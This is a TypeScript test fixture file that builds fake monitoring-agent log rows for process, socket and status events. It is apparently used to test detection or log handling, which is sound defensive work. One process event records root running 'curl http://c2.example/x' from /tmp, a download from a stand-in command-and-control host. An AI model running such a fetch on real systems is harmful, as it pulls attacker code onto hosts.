type Json = Readonly<Record<string, unknown>>;

/** A row of a scheduled query as an agent logs it; names, addresses and numbers are made up. */
export function aRow(name: string, columns: Json, more: Json = {}): Json {
  return {
    ...{ name, hostIdentifier: 'web1.corp.example', calendarTime: 'Sat Jan 31 12:00:00 2026 UTC' },
    ...{ unixTime: 1769860800, epoch: 0, counter: 7, numerics: false, action: 'added' },
    columns,
    ...more,
  };
}

export function aProcessEvent(more: Json = {}): Json {
  return aRow('process_events', {
    ...{ pid: '4242', parent: '1', path: '/usr/bin/curl', cmdline: 'curl http://c2.example/x' },
    ...{ cwd: '/tmp', auid: '1000', uid: '0', time: '1769860790', eid: '0000000017' },
    ...more,
  });
}

export function aSocketEvent(more: Json = {}): Json {
  return aRow('socket_events', {
    ...{ action: 'connect', pid: '4242', path: '/usr/bin/curl', protocol: '6', family: '2' },
    ...{ local_address: '192.0.2.15', local_port: '50123', remote_address: '203.0.113.80' },
    ...{ remote_port: '443', time: '1769860791', eid: '0000000018' },
    ...more,
  });
}

export function aStatusLine(more: Json = {}): Json {
  return {
    ...{ hostIdentifier: 'web1.corp.example', calendarTime: 'Sat Jan 31 12:00:00 2026 UTC' },
    ...{ unixTime: '1769860800', severity: 1, filename: 'tables.cpp', line: 42 },
    ...{ message: 'A table took long', version: '5.12.1', ...more },
  };
}
